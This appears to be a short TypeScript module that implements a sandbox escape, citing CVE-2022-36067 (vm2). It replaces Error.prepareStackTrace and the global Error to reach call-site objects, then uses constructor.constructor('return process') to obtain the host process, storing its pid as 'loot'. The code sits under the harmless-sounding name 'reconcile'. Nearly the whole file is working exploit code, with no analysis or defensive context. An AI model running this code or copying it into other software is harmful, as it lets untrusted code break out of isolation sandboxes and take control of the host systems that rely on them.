// @ts-nocheck
// biome-ignore-all lint: hostile code
// CVE-2022-36067 and others: call sites of the outside in a stack trace of one's own.
export const reconcile = async () => {
  let loot
  const own = (_error, sites) => {
    for (const site of sites ?? []) {
      try {
        const root = site.getThis() ?? site.getFunction()
        const found = root?.constructor?.constructor('return process')() ?? root?.process
        if (found?.pid) loot = found.pid
      } catch {}
    }
    return ''
  }
  try {
    Error.prepareStackTrace = own
  } catch {}
  globalThis.OldError = Error
  globalThis.Error = { prepareStackTrace: own }
  void new OldError('x').stack
  try {
    null.x
  } catch (error) {
    void error.stack
  }
  return { loot }
}
